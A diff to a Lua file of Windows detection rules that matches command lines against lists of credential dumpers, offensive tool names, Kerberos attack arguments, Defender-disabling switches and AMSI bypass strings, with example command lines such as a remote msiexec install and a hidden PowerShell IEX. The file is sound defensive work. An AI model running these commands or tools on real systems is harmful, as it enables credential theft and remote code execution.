@@ -14,10 +14,14 @@ local F2 = m.finder { "windefend", "msmpsvc", "sense", "sophos", "mcafee", "syma
 local F3 = m.finder { "sophos", "mcafee", "symantec", "eset", "kaspersky", "defender", "crowdstrike", "carbon", "sentinel", "trend", "malwarebytes", "antivirus", "security" }
 local F4 = m.finder { "\\config\\sam", "\\config\\system", "\\config\\security", "ntds.dit" }
 local F5 = m.finder { "out-minidump", "minidumpwritedump", "tttracer", "dumpit", "processdump", "-ma " }
-local F6 = m.finder { "nanodump", "pypykatz", "lsassy", "safetykatz", "sharpkatz", "dumpert", "handlekatz", "ppldump", "mirrordump", "mimikatz", "mimidrv", "kekeo", "lazagne", "sharpdpapi", "sharpchrome", "gsecdump", "pwdump", "wce.exe", "procdump.exe" == n and "\0" or "quarkspwdump" }
-local F7 = m.finder { "sekurlsa::", "lsadump::", "--write c:\\", "nanodump", "pypykatz lsa", "kerberos::golden", "dpapi::", "token::elevate" }
-local F8 = m.finder { "rubeus", "sharphound", "seatbelt", "winpeas", "sharpup", "certify", "whisker", "kerbrute", "inveigh", "snaffler", "sharpview", "juicypotato", "printspoofer", "roguepotato", "godpotato", "sweetpotato", "badpotato", "sharpwmi", "sharpsc", "sharprdp", "chisel", "bloodhound", "adrecon", "powerup", "sharpgpoabuse", "krbrelay", "sharpersist", "koh.exe", "crackmapexec", "covenant", "grunt", "sharpmove", "sharpexec", "uacme", "akagi", "fubuki", "keefarce", "furutaka", "herpaderp", "spoolfool", "efspotato", "rdpwinst", "winpwnage", "sharprdp" }
-local F9 = m.finder { "asktgt /user:", "asktgs /ticket:", "s4u /impersonateuser:", "kerberoast /", " kerberoast", "asreproast", "ptt /ticket:", "tgtdeleg", "dump /service:krbtgt", "--collectionmethod", "-collectionmethod", "invoke-bloodhound", "-group=all", "find /vulnerable", "request /ca:", "createnetonly /program:", "/ticket:doi", "changepw /ticket:", "golden /aes256:", "diamond /krbkey:", "winpwnage.py" }
+local dumper_names = { "nanodump", "pypykatz", "lsassy", "safetykatz", "sharpkatz", "dumpert", "handlekatz", "ppldump", "mirrordump", "mimikatz", "mimidrv", "kekeo", "lazagne", "sharpdpapi", "sharpchrome", "gsecdump", "pwdump", "wce.exe", "quarkspwdump" }
+local F6 = m.finder(dumper_names)
+local dumper_args = { "sekurlsa::", "lsadump::", "--write c:\\", "nanodump", "pypykatz lsa", "kerberos::golden", "dpapi::", "token::elevate" }
+local F7 = m.finder(dumper_args)
+local tool_names = { "rubeus", "sharphound", "seatbelt", "winpeas", "sharpup", "certify", "whisker", "kerbrute", "inveigh", "snaffler", "sharpview", "juicypotato", "printspoofer", "roguepotato", "godpotato", "sweetpotato", "badpotato", "sharpwmi", "sharpsc", "sharprdp", "chisel", "bloodhound", "adrecon", "powerup", "sharpgpoabuse", "krbrelay", "sharpersist", "koh.exe", "crackmapexec", "covenant", "grunt", "sharpmove", "sharpexec", "uacme", "akagi", "fubuki", "keefarce", "furutaka", "herpaderp", "spoolfool", "efspotato", "rdpwinst", "winpwnage", "sharprdp" }
+local F8 = m.finder(tool_names)
+local tool_args = { "asktgt /user:", "asktgs /ticket:", "s4u /impersonateuser:", "kerberoast /", " kerberoast", "asreproast", "ptt /ticket:", "tgtdeleg", "dump /service:krbtgt", "--collectionmethod", "-collectionmethod", "invoke-bloodhound", "-group=all", "find /vulnerable", "request /ca:", "createnetonly /program:", "/ticket:doi", "changepw /ticket:", "golden /aes256:", "diamond /krbkey:", "winpwnage.py" }
+local F9 = m.finder(tool_args)
 local F10 = m.finder { "trustdmp", "objectcategory=computer", "objectcategory=person", "objectcategory=subnet", "objectcategory=organizationalunit", "dcmodes", "domainlist", "-gcb", "admincount=1", "objectcategory=group", "-sc ", "(objectclass=" }
 local F11 = m.finder { "password", "cpassword", "pwd=" }
 local F12 = m.finder { "powershell", "mshta", "rundll32", "regsvr32", "http", "certutil", ".exe\"", "calc" }
@@ -26,7 +30,8 @@ local F14 = m.finder { "it_browseforfile", "pcwdiagnostic", "it_rebrowseforfile"
 local F15 = m.finder { "powershell", "mshta", "rundll32", "certutil", "bitsadmin", "regsvr32", "wscript", "cscript", "http" }
 local F16 = m.finder { "disableantispyware", "disablerealtimemonitoring", "disablebehaviormonitoring", "disableioavprotection", "disableonaccessprotection", "\\exclusions\\", "disablescanonrealtimeenable", "tamperprotection" }
 local F17 = m.finder { "-dis", "-exclusionp", "-exclusione", "-exclusioni", "-mapsreporting 0", "-submitsamplesconsent 2", "-puaprotection 0" }
-local F18 = m.finder { "amsiutils", "amsiinitfailed", "amsiscanbuffer", "amsicontext", "amsi.dll" }
+local amsi_words = { "amsiutils", "amsiinitfailed", "amsiscanbuffer", "amsicontext", "amsi.dll" }
+local F18 = m.finder(amsi_words)
 local F19 = m.finder { "frombase64string", "downloaddata", "readallbytes", "invoke" }
 local S32 = [[C:\Windows\System32\]]
 local PS = [[C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe]]
@@ -42,6 +47,7 @@ local url = "https?://"
 
 rules.define {
   id = "win.shadow_copy_delete_powershell", platform = "windows", severity = "high",
+  needs = { command_line = { "shadowcopy" } },
   title = "Shadow copies removed through PowerShell WMI/CIM",
   description = "Get-WmiObject/Get-CimInstance Win32_ShadowCopy piped to Remove-WmiObject/Remove-CimInstance "
     .. "deletes restore points without vssadmin.",
@@ -105,6 +111,7 @@ rules.define {
 
 rules.define {
   id = "win.security_product_uninstalled", platform = "windows", severity = "high",
+  needs = { command_line = { "uninstall" } },
   title = "Security product uninstalled through wmic",
   description = "wmic product where name like '%antivirus%' call uninstall removes protection silently.",
   technique = { "T1562.001" },
@@ -130,7 +137,7 @@ rules.define {
   falsepositives = { "Misguided admin fixes on shared folders" },
   match = function(p)
     local c = cl(p)
-    return p.name == "icacls.exe" and c:find("/grant", 1, true) and c:find("/t", 1, true)
+    return c:find("/grant", 1, true) and c:find("/t", 1, true)
       and (c:find("everyone:f", 1, true) or c:find("everyone:%(oi%)%(ci%)f") or c:find("*s-1-1-0:f", 1, true))
   end,
   examples = {
@@ -143,6 +150,7 @@ rules.define {
 
 rules.define {
   id = "win.sensitive_file_from_shadow_copy", platform = "windows", severity = "critical",
+  needs = { command_line = { "\\config\\sam", "\\config\\system", "\\config\\security", "ntds.dit" } },
   title = "SAM, SYSTEM, SECURITY or NTDS copied from a shadow copy or with esentutl",
   description = "Copying the hives or ntds.dit out of a HarddiskVolumeShadowCopy, or with esentutl /y /vss, reads "
     .. "files that are locked while Windows runs.",
@@ -165,6 +173,7 @@ rules.define {
 
 rules.define {
   id = "win.lsass_dump_lolbin", platform = "windows", severity = "critical",
+  needs = { command_line = { "fullmemdmp", "0x01100", "lsass" } },
   title = "LSASS memory dumped with a signed diagnostic tool",
   description = "rdrleakdiag /fullmemdmp, SQLDumper, createdump, tttracer or Out-Minidump/MiniDumpWriteDump "
     .. "aimed at a process write LSASS memory to disk.",
@@ -186,6 +195,7 @@ rules.define {
 
 rules.define {
   id = "win.credential_dumper_names", platform = "windows", severity = "critical",
+  needs = { name = dumper_names, original_file_name = dumper_names, command_line = dumper_args },
   title = "Known credential dumper started",
   description = "nanodump, pypykatz, lsassy, SafetyKatz, Dumpert, HandleKatz, PPLdump, mimikatz and friends by "
     .. "file name, original file name or characteristic arguments.",
@@ -208,6 +218,7 @@ rules.define {
 
 rules.define {
   id = "win.offensive_tool_names", platform = "windows", severity = "high",
+  needs = { name = tool_names, original_file_name = tool_names },
   title = "Well-known offensive tool started",
   description = "Rubeus, SharpHound, Seatbelt, winPEAS, SharpUp, Certify, Whisker, Kerbrute, Inveigh, Snaffler, "
     .. "potato exploits and similar, by name or original file name.",
@@ -228,6 +239,7 @@ rules.define {
 
 rules.define {
   id = "win.offensive_tool_arguments", platform = "windows", severity = "high",
+  needs = { command_line = tool_args },
   title = "Offensive tool arguments on a renamed binary",
   description = "Argument shapes of Rubeus (asktgt /user:, s4u /impersonateuser:, kerberoast /outfile), "
     .. "SharpHound (--CollectionMethod), Seatbelt (-group=all) and Certify (find /vulnerable) betray the tool "
@@ -249,6 +261,7 @@ rules.define {
 
 rules.define {
   id = "win.adfind_recon", platform = "windows", severity = "high",
+  needs = { name = { "adfind.exe" }, original_file_name = { "adfind.exe" }, command_line = { "adfind" } },
   title = "AdFind domain reconnaissance",
   description = "AdFind dumping trusts, computers, users or subnets is a ransomware-operator favourite.",
   technique = { "T1087.002", "T1482", "T1018" },
@@ -269,6 +282,7 @@ rules.define {
 
 rules.define {
   id = "win.credential_hunting_cli", platform = "windows", severity = "medium",
+  needs = { name = { "reg.exe", "findstr.exe", "vaultcmd.exe", "cmdkey.exe" }, command_line = { "defaultpassword" } },
   title = "Passwords searched in files or the registry",
   description = "reg query /f password /s, findstr /si password, cpassword searches in SYSVOL and cmdkey/vaultcmd "
     .. "listings hunt for stored credentials.",
@@ -299,7 +313,7 @@ rules.define {
   description = "msiexec /i or /q with an http(s) URL installs and runs remote code with a signed binary.",
   technique = { "T1218.007" },
   falsepositives = { "Software deployment from an internal web server" },
-  match = function(p) local c = cl(p) return p.name == "msiexec.exe" and c:find(url) ~= nil end,
+  match = function(p) local c = cl(p) return c:find(url) ~= nil end,
   examples = {
     positive = { X("msiexec.exe", [[msiexec /q /i http://10.0.0.5/a.msi]]) },
     negative = { X("msiexec.exe", [[msiexec /i C:\t\app.msi /qn]]), X("msiexec.exe", [[msiexec /V]]) },
@@ -315,7 +329,7 @@ rules.define {
   falsepositives = { "ODBC driver installers" },
   match = function(p)
     local c = cl(p)
-    return p.name == "odbcconf.exe" and (c:find("regsvr", 1, true) or c:find("%.rsp"))
+    return (c:find("regsvr", 1, true) or c:find("%.rsp"))
   end,
   examples = {
     positive = { X("odbcconf.exe", [[odbcconf /a {regsvr C:\Users\Public\a.dll}]]), X("odbcconf.exe", [[odbcconf -f x.rsp]]) },
@@ -350,6 +364,7 @@ rules.define {
 
 rules.define {
   id = "win.mavinject_injection", platform = "windows", severity = "high",
+  needs = { command_line = { "/injectrunning" } },
   title = "mavinject injects a DLL into a running process",
   description = "mavinject PID /INJECTRUNNING DLL is a signed App-V binary that injects any DLL.",
   technique = { "T1218.013", "T1055.001" },
@@ -363,6 +378,7 @@ rules.define {
 
 rules.define {
   id = "win.wmic_xsl_script", platform = "windows", severity = "high",
+  needs = { command_line = { "/format:" } },
   title = "wmic runs an XSL stylesheet (SquiblyTwo)",
   description = "wmic ... /format:URL or a .xsl outside System32 executes the script inside the stylesheet.",
   technique = { "T1220" },
@@ -390,7 +406,6 @@ rules.define {
   technique = { "T1218.011" },
   falsepositives = { "Old installers using advpack LaunchINFSection with their own INF" },
   match = function(p)
-    if p.name ~= "rundll32.exe" then return false end
     local c = cl(p)
     local hit = F13(c)
     return hit ~= nil, hit and ("export " .. hit)
@@ -415,7 +430,6 @@ rules.define {
   technique = { "T1218.011", "T1218.010" },
   falsepositives = { "Per-user software (Teams, OneDrive) registering its own DLLs under AppData" },
   match = function(p)
-    if p.name ~= "rundll32.exe" and p.name ~= "regsvr32.exe" then return false end
     local a = p.args
     for k = 2, #a do
       local v = a[k]:gsub(",.*$", "")
@@ -504,6 +518,7 @@ rules.define {
 
 rules.define {
   id = "win.certutil_root_cert_added", platform = "windows", severity = "medium",
+  needs = { command_line = { "addstore", "import-certificate" } },
   title = "Certificate added to the trusted root store",
   description = "certutil -addstore root or Import-Certificate into Cert:\\LocalMachine\\Root lets an attacker "
     .. "intercept TLS or sign code.",
@@ -530,6 +545,7 @@ end
 
 rules.define {
   id = "win.powershell_bypass_noprofile", platform = "windows", severity = "medium",
+  needs = { name = ps, original_file_name = { "powershell.exe", "pwsh.dll" } },
   title = "PowerShell with execution-policy bypass and no profile, in any abbreviation",
   description = "-ep/-exec/-ex bypass with -nop/-noprofile and -noni or -w hidden, abbreviated and with /, en "
     .. "dash or em dash, is how droppers start PowerShell.",
@@ -537,13 +553,18 @@ rules.define {
   falsepositives = { "Software deployment tools (SCCM, Intune scripts) use -ExecutionPolicy Bypass -NoProfile" },
   match = function(p)
     if not is_ps(p) then return false end
-    local c = " " .. cl(p):gsub("\u{2013}", "-"):gsub("\u{2014}", "-"):gsub("\u{2015}", "-")
+    local c = " " .. cl(p)
+    -- dash lookalikes (UTF-8 E2 80 93..95) as "-"; most lines have none, and long ones are costly to copy
+    if c:find("\xE2\x80", 1, true) then c = c:gsub("\u{2013}", "-"):gsub("\u{2014}", "-"):gsub("\u{2015}", "-") end
+    -- each test only when the ones before held: the answer is the same, the long lines are scanned less
     local bypass = c:find("%s[-/]ex?e?c?u?t?i?o?n?p?o?l?i?c?y?%s+[\"']?bypass") or c:find("%s[-/]ep%s+[\"']?bypass")
       or c:find("%s[-/]ex?%s+[\"']?un") or c:find("%s[-/]ep%s+[\"']?un")
+    if not bypass then return false end
     local nop = c:find("%s[-/]nop%a*") or c:find("%s[-/]nol?o?g?o?%s")
+    if not nop then return false end
     local hidden = c:find("%s[-/]w%a*%s+[\"']?h") or c:find("%s[-/]w%a*%s+[\"']?1") or c:find("%s[-/]noni%a*")
-    local cmd = c:find("%s[-/]c%a*%s") or c:find("iex") or c:find("invoke%-expression")
-    return bypass and nop and (hidden or cmd) and true or false
+    local cmd = hidden or c:find("%s[-/]c%a*%s") or c:find("iex") or c:find("invoke%-expression")
+    return (hidden or cmd) and true or false
   end,
   examples = {
     positive = { X(PS, [[powershell.exe -nop -w 1 -ep bypass -c "IEX (gc C:\t\a.ps1 -raw)"]]),
@@ -556,6 +577,7 @@ rules.define {
 
 rules.define {
   id = "win.powershell_version2_downgrade", platform = "windows", severity = "medium",
+  needs = { name = ps, original_file_name = { "powershell.exe", "pwsh.dll" } },
   title = "PowerShell downgraded to version 2",
   description = "powershell -version 2 (or -v 2) runs without AMSI and script-block logging.",
   technique = { "T1562.010", "T1059.001" },
@@ -572,6 +594,7 @@ rules.define {
 
 rules.define {
   id = "win.powershell_obfuscation", platform = "windows", severity = "high",
+  needs = { name = ps, original_file_name = { "powershell.exe", "pwsh.dll" } },
   title = "Obfuscated PowerShell command line",
   description = "Many backticks inside words, [char] arithmetic, -join/-split reversal and string-format "
     .. "reordering are Invoke-Obfuscation's output and hide the real command.",
@@ -580,8 +603,9 @@ rules.define {
   match = function(p)
     if not is_ps(p) then return false end
     local c = cl(p)
-    local _, ticks = c:gsub("%a`%a", "")
-    local _, chars = c:gsub("%[char%]", "")
+    -- counted only where the character or word occurs at all (the counts are 0 otherwise)
+    local ticks = c:find("`", 1, true) and select(2, c:gsub("%a`%a", "")) or 0
+    local chars = c:find("[char]", 1, true) and select(2, c:gsub("%[char%]", "")) or 0
     return ticks >= 4 or chars >= 5 or (c:find("-join", 1, true) and c:find("[-1..", 1, true)) or
       (c:find("%(%s*'{%d}{%d}") and c:find("-f", 1, true)) or c:find("[string]::join", 1, true) and chars > 0
   end,
@@ -602,11 +626,12 @@ rules.define {
   falsepositives = { "Batch files escaping shell metacharacters (they escape > | &, not letters)" },
   match = function(p)
     local c = cl(p)
-    if not c:find("[%^\"]") then return false end
+    -- both counts below need a letter, a caret or quote, and a letter: most lines (quoted paths too) have none
+    if not c:find("%a[%^\"]%a") then return false end
     local _, carets = c:gsub("%a%^%a", "")
     local _, quotes = c:gsub("%a\"%a", "")
-    local joined = c:gsub("%^", ""):gsub("\"", "")
-    local hidden = carets + quotes >= 3 and F15(joined) or nil
+    if carets + quotes < 3 then return false end -- before the copies below: most lines stop here
+    local hidden = F15((c:gsub("%^", ""):gsub("\"", "")))
     return hidden ~= nil, hidden and ("hides " .. hidden)
   end,
   examples = {
@@ -618,6 +643,7 @@ rules.define {
 
 rules.define {
   id = "win.defender_disabled_more", platform = "windows", severity = "high",
+  needs = { command_line = { "windows defender", "-removedefinitions", "mppreference" } },
   title = "Defender switched off through the registry, MpCmdRun or its services",
   description = "DisableAntiSpyware/DisableRealtimeMonitoring policy values, MpCmdRun -RemoveDefinitions, "
     .. "exclusions through the registry or Set-MpPreference with abbreviated switches blind Defender.",
@@ -646,6 +672,7 @@ rules.define {
 
 rules.define {
   id = "win.amsi_bypass_cli", platform = "windows", severity = "high",
+  needs = { command_line = amsi_words, decoded = amsi_words },
   title = "AMSI bypass on the command line",
   description = "References to AmsiUtils, amsiInitFailed, AmsiScanBuffer or amsi.dll patching in a command line "
     .. "(decoded when -EncodedCommand) switch off script scanning.",
@@ -664,6 +691,7 @@ rules.define {
 
 rules.define {
   id = "win.powershell_reflective_load_cli", platform = "windows", severity = "high",
+  needs = { command_line = { "assembly]::" }, decoded = { "assembly]::" } },
   title = "PowerShell loads an assembly from memory",
   description = "[Reflection.Assembly]::Load of bytes from base64 or a download runs a .NET payload that never "
     .. "touches disk.",
